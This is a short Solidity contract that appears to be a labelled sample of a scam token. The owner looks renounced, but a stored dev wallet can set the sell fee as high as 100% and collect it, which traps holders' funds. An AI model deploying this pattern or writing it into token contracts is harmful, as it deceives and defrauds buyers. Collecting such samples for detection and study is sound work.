// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Hidden owner through a "dev wallet": owner() is renounced, but
/// the dev wallet stored at deployment still sets the sell fee (up to
/// 100%) with adjustDevFee(uint256).
contract DevWalletToken is ERC20, Ownable {
    address public immutable pair;
    address private _devWallet;
    uint256 public devFeeBps = 200;

    constructor(address router, uint256 supply) ERC20("Dev Wallet", "DEVW") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _devWallet = msg.sender;
        _mint(msg.sender, supply);
    }

    modifier onlyDev() {
        require(msg.sender == _devWallet, "not dev");
        _;
    }

    function adjustDevFee(uint256 bps) external onlyDev {
        require(bps <= 10_000, "bps");
        devFeeBps = bps;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _devWallet) {
            uint256 fee = (value * devFeeBps) / 10_000;
            if (fee > 0) _move(from, _devWallet, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}
